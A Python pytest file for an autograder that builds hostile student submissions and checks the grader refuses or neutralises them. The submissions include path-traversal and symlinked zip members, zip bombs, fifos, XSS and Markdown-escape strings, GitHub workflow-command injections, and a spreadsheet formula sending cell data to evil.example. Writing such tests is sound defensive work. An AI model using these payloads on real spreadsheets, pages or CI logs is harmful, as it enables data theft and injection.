"""Hostile intake: what a submission controls on its way in (names that become paths, links,
broken files) and every string it controls on its way out (names and messages in each export).

Each test plays the attack through the grader's own entry points (discover, grade_batch, the
`dlgrade` commands, the exports) and shows that it fails: the submission gets a verdict and no
points, nothing is written outside the submission's own fresh folder, and every output parses
with a strict parser (csv, xml.etree, html.parser, json, a CommonMark renderer) and is inert.
The attack files are built here (links, fifos and devices cannot be kept in git).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import shlex
import shutil
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser
from pathlib import Path, PurePath

import pytest
from click.testing import CliRunner

from dlgrade.assignments import ASSIGNMENTS_DIR
from dlgrade.checkers.exercise import ExerciseResult, PropertyResult
from dlgrade.checkers.registry import all_exercises, select
from dlgrade.grader.grading import discovery, engines
from dlgrade.grader.outputs import escape
from dlgrade.grader.boundary import intake
from dlgrade.grader.grading.batch import grade_batch
from dlgrade.grader.grading.discovery import discover
from dlgrade.grader.cli import main
from dlgrade.grader.outputs.export import export, export_all
from dlgrade.grader.outputs.formats.classroom import classroom_result, classroom_summary
from dlgrade.grader.outputs.formats.gradescope import gradescope_result
from dlgrade.grader.outputs.formats.prairielearn import prairielearn_result
from dlgrade.grader.grading.gradebook import Gradebook
from dlgrade.grader.outputs.instructor_report import build_report
from dlgrade.grader.integrations.nbgrader_bridge import generate
from dlgrade.grader.outputs.report import print_results
from helpers import copy_solutions

A1 = "a1_backprop"
NAMES = ["relu_forward", "relu_backward"]
POINTS = sum(e.points for e in select(NAMES))
SANDBOX = os.environ.get("DLGRADE_TEST_SANDBOX") != "0"

# -- building attacks ------------------------------------------------------------------------------


def files_under(root: Path) -> set[Path]:
    """Every path under `root` (files, links and folders), not following links."""
    found = set()
    for folder, dirs, files in os.walk(root, followlinks=False):
        found |= {Path(folder, n) for n in dirs + files}
    return found


def notebook(cells: list[str], metadata: dict | None = None) -> dict:
    """An nbformat 4 notebook holding `cells` as code cells."""
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata or {},
            "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                       "source": source} for source in cells]}


RELU_FORWARD = "import numpy as np\n\ndef relu_forward(x):\n    return np.maximum(x, 0), (x,)\n"


def write_notebook(path: Path, nb: dict | str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, dict):
        nb = json.dumps(nb)
    path.write_bytes(nb if isinstance(nb, bytes) else nb.encode("utf-8", "surrogatepass"))
    return path


def zip_of(archive: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Path:
    archive.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in members:
            zf.writestr(member, data)  # a name is stored deflated, a ZipInfo as it says
    return archive


def symlink_member(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def discovered(subs: Path, work: Path, assignments=(A1,)) -> dict[str, discovery.Discovered]:
    """discover(), checking on the way that it wrote nothing outside `work`."""
    work.mkdir(exist_ok=True)
    outside = files_under(subs.parent) - files_under(work)
    found = {d.name: d for d in discover(subs, work, list(assignments))}
    assert files_under(subs.parent) - files_under(work) == outside, "discover wrote outside its work folder"
    return found


# -- 1. names that become paths ------------------------------------------------------------------

#: Values a notebook's `dlgrade` metadata might give for the assignment or the module.
HOSTILE_NAMES = {
    "absolute": "{victim}/owned",
    "parent": "../../victim/owned",
    "inner_parent": "a1_backprop/../../victim",
    "nul": "layers\x00../../owned",
    "fullwidth": "ｌａｙｅｒｓ",
    "case": "LAYERS",
    "dunder": "__init__",
    "reserved": "con",
    "long": "x" * 5000,
    "newline": "layers\n",
    "not_text": ["layers"],
    "backslash": "..\\..\\victim\\owned",
}


@pytest.mark.parametrize("field", ["assignment", "module"])
@pytest.mark.parametrize("kind", sorted(HOSTILE_NAMES))
def test_notebook_metadata_never_decides_a_path(tmp_path, field, kind):
    victim = tmp_path / "victim"
    victim.mkdir()
    value = HOSTILE_NAMES[kind]
    value = value.replace("{victim}", str(victim)) if isinstance(value, str) else value
    meta = {"dlgrade": {"assignment": A1, "module": "layers", field: value}}
    subs = tmp_path / "subs"
    write_notebook(subs / "mallory" / "layers.ipynb", notebook([RELU_FORWARD], meta))
    write_notebook(subs / "nbgrader_style" / "mallory" / A1 / "layers.ipynb", notebook([RELU_FORWARD], meta))

    found = discovered(subs, tmp_path / "work")
    for sub in found.values():
        assert sub.problem and "metadata" in sub.problem and "not graded" in sub.problem, sub
    assert not list(victim.iterdir()) and not list(tmp_path.rglob("owned*"))

    # The same notebook through `dlgrade check --path`: refused, nothing written.
    run = CliRunner().invoke(main, ["check", "--path", str(subs / "mallory" / "layers.ipynb"), "--no-sandbox"])
    assert run.exit_code == 1 and "metadata" in run.output and "not graded" in run.output, run.output
    assert not list(victim.iterdir()) and not list(tmp_path.rglob("owned*"))


def test_metadata_that_names_a_real_module_is_graded_as_that_module(tmp_path):
    """The check is not a blanket refusal: a generated notebook's metadata still places its code."""
    subs = tmp_path / "subs"
    write_notebook(subs / "ada" / "whatever.ipynb", notebook([RELU_FORWARD], {"dlgrade": {"assignment": A1,
                                                                                          "module": "layers"}}))
    (sub,) = discovered(subs, tmp_path / "work").values()
    assert sub.problem is None and "def relu_forward" in (sub.path / A1 / "layers.py").read_text()


ZIP_MEMBERS = {
    "parent": "../../owned.py",
    "absolute": "/tmp/owned.py",
    "drive": "C:/owned.py",
    "backslash": "..\\..\\owned.py",
    "inner_parent": "a1_backprop/../../../owned.py",
    "control": "a1_backprop/\x1b[2Jlayers.py",
    "deep": "/".join(["d"] * 40) + "/layers.py",
    "long_part": "a" * 300 + "/layers.py",
}


@pytest.mark.parametrize("kind", sorted(ZIP_MEMBERS))
def test_zip_member_names_are_checked_before_anything_is_written(tmp_path, kind):
    subs = tmp_path / "subs"
    zip_of(subs / "mallory.zip", [("a1_backprop/layers.py", RELU_FORWARD.encode()), (ZIP_MEMBERS[kind], b"owned = 1")])
    found = discovered(subs, tmp_path / "work")
    assert found["mallory"].problem.startswith("cannot unpack mallory.zip"), found
    assert not [p for p in files_under(tmp_path) if "owned" in p.name]


def test_zip_members_that_collide_or_link_are_refused(tmp_path):
    subs = tmp_path / "subs"
    layers = ("a1_backprop/layers.py", RELU_FORWARD.encode())
    zip_of(subs / "twice.zip", [layers, ("a1_backprop/Layers.py", b"x = 1")])  # one file where case folds
    zip_of(subs / "again.zip", [layers, ("a1_backprop/./layers.py", b"x = 1")])
    zip_of(subs / "link.zip", [symlink_member("a1_backprop/layers.py", "/etc/passwd")])
    zip_of(subs / "link_folder.zip", [symlink_member("a1_backprop", "../../classmate/a1_backprop")])
    # zipfile cuts a member name at a NUL: what is left must still be checked.
    zip_of(subs / "nul.zip", [layers, ("a1_backprop/x.py\x00/../../../owned.py", b"owned")])
    found = discovered(subs, tmp_path / "work")
    assert "appears twice" in found["twice"].problem and "appears twice" in found["again"].problem
    assert "is a link" in found["link"].problem and "is a link" in found["link_folder"].problem
    assert found["nul"].problem is None and sorted(p.name for p in (found["nul"].path / A1).iterdir()) == [
        "layers.py", "x.py"]


def test_only_identifier_modules_of_course_assignments_are_copied(tmp_path):
    sub = tmp_path / "subs" / "eve"
    copy_solutions(sub)
    planted = {"__init__.py": "raise SystemExit", "con.py": "", "ｌayers.py": "", "layers .py": "", "9x.py": "",
               "layers.PY": "", "class.py": "", "notes.txt": "", "helpers.py": "HELP = 1"}
    for name, text in planted.items():
        (sub / A1 / name).write_text(text)
    (sub / "a7_distributed").mkdir()  # a folder of another assignment: not copied, so it changes nothing
    (sub / "a7_distributed" / "parallel.py").write_text("")
    (sub / A1 / "sub").mkdir()
    (sub / A1 / "sub" / "layers.py").write_text("")
    found = discovered(tmp_path / "subs", tmp_path / "work")
    copy = found["eve"].path
    assert sorted(p.relative_to(copy).as_posix() for p in files_under(copy)) == [
        A1, f"{A1}/helpers.py", f"{A1}/layers.py", f"{A1}/losses.py", f"{A1}/net.py"]


@pytest.mark.parametrize("name", ["bad\udcff", "caf\u00e9", "=cmd|' /C calc'!A0", "$\\foo{$", "\n\n<img src=x>",
                                  "x" * 250, "-rf ~"])
def test_any_folder_name_is_a_gradebook_name_and_two_never_share_a_row(tmp_path, name):
    subs = tmp_path / "subs"
    try:
        copy_solutions(subs / name)
    except OSError as e:
        pytest.skip(f"this file system does not take the name: {e}")
    if name.isascii() and len(name) < 100:
        zip_of(subs / f"{name}.zip", [("a1_backprop/layers.py", RELU_FORWARD.encode())])
    found = discover(subs, tmp_path / "work", [A1])
    names = [d.name for d in found]
    assert len(set(names)) == len(names) == len(list(subs.iterdir()))
    with Gradebook(tmp_path / "book.sqlite") as book:  # every name can be stored (valid UTF-8, bounded)
        for d in found:
            book.record(d.name, engines.error_result("test"))
        assert len(book.graded()) == len(found)


def test_undecodable_names_that_become_the_same_text_stay_apart(tmp_path):
    """Names that are the same once their bytes are decoded never share a row, and keep their name
    when more submissions arrive."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for raw in (b"caf\xe9", b"caf\xe8", "caf\ufffd".encode()):
        os.makedirs(os.path.join(os.fsencode(subs), raw, b"a1_backprop"))
    names = [d.name for d in discover(subs, tmp_path / "work", [A1])]
    assert len(set(names)) == 3 and "caf\ufffd" in names and all(n.startswith("caf\ufffd") for n in names)
    # Each name depends on its own bytes, not on what else the folder holds (a rerun resumes rightly).
    os.makedirs(os.path.join(os.fsencode(subs), b"caf\xe0", b"a1_backprop"))
    assert set(names) < {d.name for d in discover(subs, tmp_path / "work2", [A1])}


def test_exports_name_files_by_a_safe_name_never_the_submission_name(tmp_path):
    db = tmp_path / "book.sqlite"
    hostile = ["..", "../../escaped", "/abs/escaped", "CON", "con", "Alice", "alice", "a\x00b", "\udcff", "x" * 500,
               "submission_12345"]
    with Gradebook(db) as book:
        for name in hostile:
            book.record(escape.text(name), engines.error_result("nothing to grade"))
    out = tmp_path / "out"
    out.mkdir()
    before = files_under(tmp_path) - files_under(out)
    written = export(db, "feedback", out / "feedback") + export(db, "gradescope", out / "gradescope")
    assert files_under(tmp_path) - files_under(out) == before
    assert len(written) == 2 * len(hostile) and len({p.name.casefold() for p in (out / "feedback").iterdir()}) == len(
        hostile)
    assert all(p.resolve().is_relative_to(out.resolve()) for p in written)
    assert (out / "feedback" / "submission_12345.md").is_file()  # an ordinary name stays as it is


def test_dask_shipping_writes_only_checked_module_paths(tmp_path, monkeypatch):
    # The worker's scratch folder deep inside tmp_path, so that wherever a path would land, it is seen.
    scratch = tmp_path / "a" / "b" / "c" / "d"
    scratch.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    for rel in ("../../owned.py", "../../../../owned.py", str(tmp_path / "owned.py"), "a1_backprop/../../owned.py",
                "nope/owned.py", "a1_backprop/x/owned.py", "a1_backprop/__init__.py"):
        result = engines._grade_shipped({rel: b"owned = 1", "a1_backprop/layers.py": b""}, NAMES, 0, 10, False)
        assert result["status"] == "error" and result["score"] == 0 and "not graded" in result["error"], rel
    assert not [p for p in files_under(tmp_path) if p.name in ("owned.py", "__init__.py")]
    (tmp_path / "sub" / A1).mkdir(parents=True)
    (tmp_path / "sub" / A1 / "layers.py").symlink_to(ASSIGNMENTS_DIR / A1 / "layers.py")
    with pytest.raises(intake.Refused, match="link outside the submission"):
        engines._pack(tmp_path / "sub")


# -- 2. links --------------------------------------------------------------------------------------


def classmate_and_copycat(subs: Path, link: str) -> None:
    """alice's solutions; mallory's folder links to them (the assignment folder, one module, or
    her whole submission)."""
    copy_solutions(subs / "alice")
    mallory = subs / "mallory"
    if link == "assignment":
        mallory.mkdir()
        (mallory / A1).symlink_to(subs / "alice" / A1, target_is_directory=True)
    elif link == "relative_assignment":
        mallory.mkdir()
        (mallory / A1).symlink_to(Path("..", "alice", A1), target_is_directory=True)
    elif link == "module":
        copy_solutions(mallory)
        (mallory / A1 / "layers.py").unlink()
        (mallory / A1 / "layers.py").symlink_to(subs / "alice" / A1 / "layers.py")
    elif link == "solutions":
        copy_solutions(mallory)
        (mallory / A1 / "layers.py").unlink()
        (mallory / A1 / "layers.py").symlink_to(ASSIGNMENTS_DIR / A1 / "layers.py")
    elif link == "wrapper":
        mallory.mkdir()
        (mallory / "homework").symlink_to(subs / "alice", target_is_directory=True)
    elif link == "top_level":
        (mallory).symlink_to(subs / "alice", target_is_directory=True)
    elif link == "nbgrader":
        (notebook_dir := subs / "alice" / "nb")
        write_notebook(notebook_dir / "layers.ipynb", notebook([RELU_FORWARD]))
        mallory.mkdir()
        (mallory / A1).symlink_to(notebook_dir, target_is_directory=True)
    elif link == "notebook":
        write_notebook(subs / "alice" / "nb" / "layers.ipynb", notebook([RELU_FORWARD]))
        mallory.mkdir()
        (mallory / "layers.ipynb").symlink_to(subs / "alice" / "nb" / "layers.ipynb")


LINKS = ["assignment", "relative_assignment", "module", "solutions", "wrapper", "top_level", "nbgrader", "notebook"]


@pytest.mark.parametrize("link", LINKS)
def test_a_link_out_of_the_submission_is_a_verdict_not_a_copy(tmp_path, link):
    subs = tmp_path / "subs"
    classmate_and_copycat(subs, link)
    found = discovered(subs, tmp_path / "work")
    assert found["alice"].problem is None
    assert found["mallory"].problem and "link" in found["mallory"].problem, found["mallory"]
    assert "not graded" in found["mallory"].problem


@pytest.mark.parametrize("bwrap", [True, False], ids=["bwrap", "no_bwrap"])
def test_check_of_a_folder_whose_assignment_links_elsewhere_refuses_it(tmp_path, monkeypatch, bwrap):
    """The sandbox copy (dlgrade check) follows the same rule as discovery, in both modes."""
    if bwrap and shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    if not bwrap:
        monkeypatch.setenv("DLGRADE_NO_BWRAP", "1")
    classmate_and_copycat(tmp_path / "subs", "assignment")
    run = CliRunner().invoke(main, ["check", "relu_forward", "--path", str(tmp_path / "subs" / "mallory")])
    assert run.exit_code == 1 and "a1_backprop is a link outside the submission: not graded" in run.output, run.output
    assert not [p for p in Path(os.environ.get("TMPDIR", "/tmp")).glob("dlgrade-sandbox-*")
                if p.stat().st_mtime > (tmp_path / "subs").stat().st_mtime]


def test_a_link_that_stays_inside_the_submission_is_followed(tmp_path):
    subs = tmp_path / "subs"
    copy_solutions(subs / "ada" / "work")
    (subs / "ada" / A1).symlink_to(Path("work", A1), target_is_directory=True)
    (subs / "ada" / "work" / A1 / "layers_copy.py").symlink_to("layers.py")
    found = discovered(subs, tmp_path / "work")
    copy = found["ada"].path / A1
    assert found["ada"].problem is None and (copy / "layers_copy.py").read_text() == (copy / "layers.py").read_text()
    assert not any(p.is_symlink() for p in files_under(found["ada"].path))


@pytest.mark.skipif(os.geteuid() != 0, reason="making a file of another user takes root")
def test_a_hard_link_to_another_users_file_is_refused(tmp_path):
    subs = tmp_path / "subs"
    copy_solutions(subs / "mallory")
    secret = tmp_path / "secret.py"
    secret.write_text("SEED = 1234\n")
    os.chown(secret, 12345, 12345)
    os.link(secret, subs / "mallory" / A1 / "helpers.py")
    copy_solutions(subs / "ada")
    os.link(subs / "ada" / A1 / "net.py", subs / "ada" / A1 / "net_again.py")  # her own file twice: fine
    found = discovered(subs, tmp_path / "work")
    assert "hard link to another user's file" in found["mallory"].problem
    assert found["ada"].problem is None


# -- 4. broken files -------------------------------------------------------------------------------


def broken_submissions(subs: Path) -> dict[str, str]:
    """Submissions that are broken in every way the folder can be: name -> a word of its verdict."""
    def nb(name: str, content) -> None:
        write_notebook(subs / name / A1 / "layers.ipynb", content)

    nb("not_json", "{this is not json")
    nb("not_utf8", b'{"cells": [], "metadata": {"x": "\xff\xfe"}}')
    nb("cells_not_list", {"cells": {"a": 1}, "metadata": {}})
    nb("source_not_text", {"cells": [{"cell_type": "code", "source": [1, 2]}], "metadata": {}})
    nb("metadata_not_object", {"cells": [], "metadata": ["dlgrade"]})
    nb("dlgrade_not_object", {"cells": [], "metadata": {"dlgrade": "a1_backprop/layers"}})
    nb("deep_nesting", "[" * 200_000 + "]" * 200_000)
    nb("too_many_values", "[" + "0," * (intake.MAX_NOTEBOOK_ITEMS + 1) + "0]")
    nb("not_an_object", "[1, 2, 3]")
    nb("nul_in_code", notebook(["def relu_forward(x):\x00\n    return x"]))
    nb("lone_surrogate", '{"cells": [{"cell_type": "code", "source": "x = \\"\\ud800\\""}], "metadata": {}}')
    big = subs / "huge_notebook" / A1 / "layers.ipynb"
    big.parent.mkdir(parents=True)
    with big.open("wb") as f:
        f.truncate(intake.MAX_NOTEBOOK_BYTES + 1)
    huge = copy_solutions(subs / "huge_module") / "helpers.py"
    with huge.open("wb") as f:
        f.truncate(intake.MAX_FILE_BYTES + 1)
    os.mkfifo(copy_solutions(subs / "fifo_module") / "helpers.py")
    (subs / "fifo_notebook" / A1).mkdir(parents=True)
    os.mkfifo(subs / "fifo_notebook" / A1 / "layers.ipynb")
    folder = copy_solutions(subs / "device")
    if os.geteuid() == 0:
        (folder / "layers.py").unlink()
        os.mknod(folder / "layers.py", stat.S_IFCHR | 0o644, os.makedev(1, 5))  # /dev/zero
    else:
        (folder / "layers.py").unlink()
        os.mkfifo(folder / "layers.py")
    deep = subs / "deep_folders"
    os.makedirs(deep.joinpath(*["d"] * 200))
    (subs / "mixed.zip").write_bytes(b"PK\x05\x06" + b"\x00" * 18)  # an empty archive: nothing to grade
    return {"not_json": "not valid JSON", "not_utf8": "not UTF-8", "cells_not_list": "cells are not a list",
            "source_not_text": "not text", "metadata_not_object": "metadata is not an object",
            "dlgrade_not_object": "not an object", "deep_nesting": "not valid JSON",
            "too_many_values": "JSON values", "not_an_object": "not a JSON object",
            "huge_notebook": "larger than", "huge_module": "larger than", "fifo_module": "not a regular file",
            "fifo_notebook": "not a regular file", "device": "not a regular file"}


def test_every_broken_file_is_its_submissions_verdict(tmp_path):
    subs = tmp_path / "subs"
    verdicts = broken_submissions(subs)
    found = discovered(subs, tmp_path / "work")
    for name, words in verdicts.items():
        assert found[name].problem and words in found[name].problem and "not graded" in found[name].problem, \
            (name, found[name].problem)
    # Not broken as files: graded, and lose the points of what does not run.
    for name in ("nul_in_code", "lone_surrogate", "deep_folders", "mixed"):
        assert found[name].problem is None, found[name]


def test_an_unreadable_file_or_folder_is_its_submissions_verdict(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    copy_solutions(subs / "ada")
    copy_solutions(subs / "locked")
    copy_solutions(subs / "vanishing")
    real_open, real_scandir = os.open, os.scandir

    def refusing_open(path, *args, **kwargs):
        if "locked" in str(kwargs.get("dir_fd") and os.readlink(f"/proc/self/fd/{kwargs['dir_fd']}") or path):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    def failing_scandir(path="."):
        if "vanishing" in str(path):
            raise OSError(5, "Input/output error", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "open", refusing_open)
    monkeypatch.setattr(os, "scandir", failing_scandir)
    found = {d.name: d for d in discover(subs, tmp_path / "work", [A1])}
    assert found["ada"].problem is None
    assert "PermissionError" in found["locked"].problem or "changed while" in found["locked"].problem
    assert "Input/output error" in found["vanishing"].problem


def test_a_zip_bomb_is_stopped_at_the_bytes_written(tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_SUBMISSION_BYTES", 1 << 20)
    subs = tmp_path / "subs"
    zip_of(subs / "bomb.zip", [(f"a1_backprop/f{i}.py", b"\0" * (400 << 10)) for i in range(4)])
    # Declared sizes that lie: the bytes written are counted, not the header's word for it.
    liar = subs / "liar.zip"
    zip_of(liar, [("a1_backprop/layers.py", b"\0" * (3 << 20))])
    data = bytearray(liar.read_bytes())
    size = (3 << 20).to_bytes(4, "little")
    for offset in range(len(data) - 4):
        if data[offset:offset + 4] == size:
            data[offset:offset + 4] = (10).to_bytes(4, "little")
    liar.write_bytes(bytes(data))
    found = discovered(subs, tmp_path / "work")
    assert "more than 1 MB" in found["bomb"].problem
    assert found["liar"].problem.startswith("cannot unpack liar.zip")
    assert sum(p.stat().st_size for p in files_under(tmp_path / "work") if p.is_file()) <= 1 << 20


def _directory_bomb(path: Path, entries: int, declared: int) -> None:
    """A zip of one empty member listed `entries` times in its central directory (47 bytes each,
    no data of their own), whose end record declares `declared` members."""
    name = b"a1_backprop/layers.py"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    directory = entry * entries
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, declared, declared, len(directory), len(local), 0)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(local + directory + end)


@pytest.mark.parametrize("declared", [60_000, 10], ids=["declared", "lying"])
def test_a_zip_s_directory_is_bounded_before_it_is_read(tmp_path, declared):
    """A central directory of 60 000 entries (2.6 MB) is refused from the end record, whatever it
    declares, before zipfile turns each entry into an object."""
    subs = tmp_path / "subs"
    _directory_bomb(subs / "bomb.zip", 60_000, declared)
    Path("/proc/self/clear_refs").write_text("5")
    start = _peak_rss()
    found = discovered(subs, tmp_path / "work")
    assert "members" in found["bomb"].problem, found["bomb"].problem
    assert _peak_rss() - start < 20 << 20


def _peak_rss() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) << 10
    return 0


def test_too_many_entries_is_a_verdict(tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_ENTRIES", 50)
    folder = copy_solutions(tmp_path / "subs" / "flood")
    for i in range(60):
        (folder / f"m{i}.txt").write_text("")
    assert "more than 50 entries" in discovered(tmp_path / "subs", tmp_path / "work")["flood"].problem


# -- 3. strings on the way out ---------------------------------------------------------------------

#: Text a submission may put in its name, its exception messages or its output.
HOSTILE_TEXT = [
    "lone \ud800 surrogate", "\udcff\udcfe undecodable bytes",
    "controls \x00\x01\x07\x08\x0b\x0c\x1b[2J\x1b]52;c;ZXZpbA==\x07\x7f\x85 end",
    "$\\foo{$", "$x^2$ and $$", r"\usepackage{evil}",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
    "\n\n<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>",
    "```\n<img src=x onerror=alert(1)>\n```", "~~~\n# heading", "````", "[click](javascript:alert(1))",
    "![pixel](http://evil.example/p.png)", "a | b | c", "**bold** _em_ `code`", "# heading", "- item", "1. item",
    "> quote", "<!-- comment", "&lt;&amp;", "]]><x/>", "-->", "<?xml version='1.0'?>",
    "::set-output name=result::Zm9yZ2Vk", "  ::error file=x::forged", "ok\n::add-mask::42\n::stop-commands::t",
    "ok\r::set-output name=result::Zm9yZ2Vk", "##[error]forged", "[bold red]markup[/]", "[/]", "[link=file:///etc]x",
    "text\\", "\u202egnp.exe", "zero\u200bwidth", "\ufeffbom", "line\u2028separator", "😀 \U0001f600",
    "x" * 3000,
]


def hostile_property(text: str) -> dict:
    return {"name": "values_match_reference", "passed": False, "checked": True, "essential": True, "weight": 1,
            "message": f"your function raised: {text}\nsecond line {text}", "hints": [f"hint {text}"],
            "replay": f"dlgrade check x --path {text}"}


def hostile_result(text: str) -> dict:
    exercise = {"name": "relu_forward", "assignment": A1, "points": 0.0, "max_points": 1.0, "passed": False,
                "status": "checked", "reason": text, "seconds": 0.1, "student_seconds": 0.05,
                "properties": [hostile_property(text)]}
    missing = {**exercise, "name": "relu_backward", "status": "module_error", "reason": f"import raised {text}",
               "properties": []}
    return {"status": "graded", "score": 0.0, "max_score": 2.0, "seconds": 1.0, "student_seconds": 0.5,
            "profile": "student", "seed": 3, "exercises": [exercise, missing], "error": None}


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory) -> Path:
    """A gradebook with each hostile text as a submission's name and in its messages, plus one
    submission that could not be graded with it as its error."""
    db = tmp_path_factory.mktemp("hostile") / "book.sqlite"
    with Gradebook(db) as book:
        for i, text in enumerate(HOSTILE_TEXT):
            book.record(escape.text(f"{text}{i}"), hostile_result(text))
        book.record("error", engines.error_result("\n".join(HOSTILE_TEXT)))
        # who each submission is by, as a roster or a bulk export's metadata gives it: student text
        book.set_students({escape.text(f"{text}{i}"): [{"name": text, "sis_user_id": text, "email": text,
                                                        "section": text}]
                           for i, text in enumerate(HOSTILE_TEXT)})
    return db


FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def assert_inert_csv(text: str, rows: int) -> None:
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == rows + 1  # header (with the points possible), one per submission
    assert len({len(r) for r in parsed}) == 1
    for row in parsed:
        for cell in row:
            assert "\n" not in cell and "\r" not in cell, cell
            assert not cell.lstrip(" ").startswith(FORMULA), cell


class TagCollector(HTMLParser):
    """The tags of a page, and the attributes that are not the renderer's own."""

    ALLOWED = {("code", "class", "language-text")}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [name for name, value in attrs if (tag, name, value) not in self.ALLOWED]


def html_tags(page: str) -> TagCollector:
    parser = TagCollector()
    parser.feed(page)
    parser.close()
    return parser


def render_markdown(text: str) -> str:
    """The Markdown as a permissive renderer shows it: CommonMark, tables, raw HTML allowed."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


MARKDOWN_TAGS = {"h1", "h2", "h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "pre", "code"}


def assert_strict_json(text: str) -> object:
    def no_constant(name):
        raise AssertionError(f"{name} is not JSON")

    def no_surrogate(value):
        if isinstance(value, str):
            assert not any(0xD800 <= ord(c) <= 0xDFFF for c in value), value
        elif isinstance(value, dict):
            [no_surrogate(k) or no_surrogate(v) for k, v in value.items()]
        elif isinstance(value, list):
            [no_surrogate(v) for v in value]

    data = json.loads(text, parse_constant=no_constant)
    no_surrogate(data)
    return data


def assert_no_workflow_command(text: str) -> None:
    for line in text.replace("\r", "\n").split("\n"):
        assert not line.lstrip().startswith("::") and "##[" not in line, line


def test_every_export_of_hostile_text_parses_and_is_inert(hostile_book, tmp_path):
    out = tmp_path / "out"
    written = export_all(hostile_book, out)
    count = len(HOSTILE_TEXT) + 1
    for path in written:  # every file is whole, valid UTF-8
        assert path.stat().st_size > 0, path
        path.read_bytes().decode("utf-8")

    assert_inert_csv((out / "gradebook.csv").read_text(encoding="utf-8"), count)
    [canvas] = export(hostile_book, "canvas", tmp_path / "canvas.csv")
    assert_inert_csv(canvas.read_text(encoding="utf-8"), count + 1)  # and Canvas's Points Possible row

    junit = ET.fromstring((out / "junit.xml").read_bytes())
    assert len(junit.findall("testsuite")) == count
    assert len(junit.findall(".//failure")) == count - 1

    feedback = sorted((out / "feedback").iterdir())
    assert len(feedback) == count
    for path in feedback:
        text = path.read_text(encoding="utf-8")
        page = render_markdown(text)
        tags = html_tags(page)
        assert set(tags.tags) <= MARKDOWN_TAGS, (path.name, set(tags.tags) - MARKDOWN_TAGS)
        assert not tags.attrs, tags.attrs
        # each failing exercise is one heading and one code block: no fence was closed early
        assert tags.tags.count("h3") == tags.tags.count("pre") == text.count("\n### ")
        assert tags.tags.count("h1") == 1

    for path in (out / "gradescope").glob("*/results.json"):
        assert_strict_json(path.read_text(encoding="utf-8"))
    assert len(list((out / "gradescope").glob("*/results.json"))) == count


def test_json_formats_and_ci_outputs_of_hostile_text(hostile_book, tmp_path, monkeypatch):
    from dlgrade.grader.outputs.export import load_results

    for result in load_results(hostile_book):
        for build in (gradescope_result, prairielearn_result, classroom_result):
            assert_strict_json(json.dumps(build(result)))
        payload = classroom_result(result)
        for test in payload["tests"]:  # the Classroom reporter prints these into the workflow log
            assert_no_workflow_command(test["message"] or "")
        summary = classroom_summary(result)
        assert set(html_tags(render_markdown(summary)).tags) <= MARKDOWN_TAGS
        assert not html_tags(render_markdown(summary)).attrs
    name = next(r["name"] for r in load_results(hostile_book) if r["name"].startswith("::set-output"))
    env = {"GITHUB_OUTPUT": str(tmp_path / "output"), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary")}
    out = io.StringIO()
    export(hostile_book, "classroom", "-", submission=name, env=env, stdout=out)
    assert_strict_json(out.getvalue())
    (line,) = (tmp_path / "output").read_text().splitlines()
    assert_strict_json(base64.b64decode(line.removeprefix("result=")).decode("utf-8"))


def test_the_class_report_of_hostile_names_builds_and_is_inert(hostile_book, monkeypatch):
    import matplotlib

    monkeypatch.setitem(matplotlib.rcParams, "text.usetex", True)  # an instructor's rc file may say so
    page = build_report(hostile_book)
    page.encode("utf-8")
    tags = html_tags(page)
    assert not {"script", "img", "iframe", "a"} & set(tags.tags)
    assert not [a for a in tags.attrs if a.startswith("on")]
    for start in range(page.count("<svg")):  # every chart is well-formed XML
        begin = [i for i in range(len(page)) if page.startswith("<svg", i)][start]
        ET.fromstring(page[begin:page.index("</svg>", begin) + len("</svg>")])


def test_the_console_prints_hostile_text_as_text(capsys):
    from rich.console import Console

    results = [ExerciseResult(name="relu_forward", assignment=A1, max_points=1.0,
                              properties=[PropertyResult(name="values_match_reference", passed=False,
                                                         message=f"raised {text}\nagain {text}",
                                                         hints=[f"{text}"], replay=f"replay {text}")])
               for text in HOSTILE_TEXT]
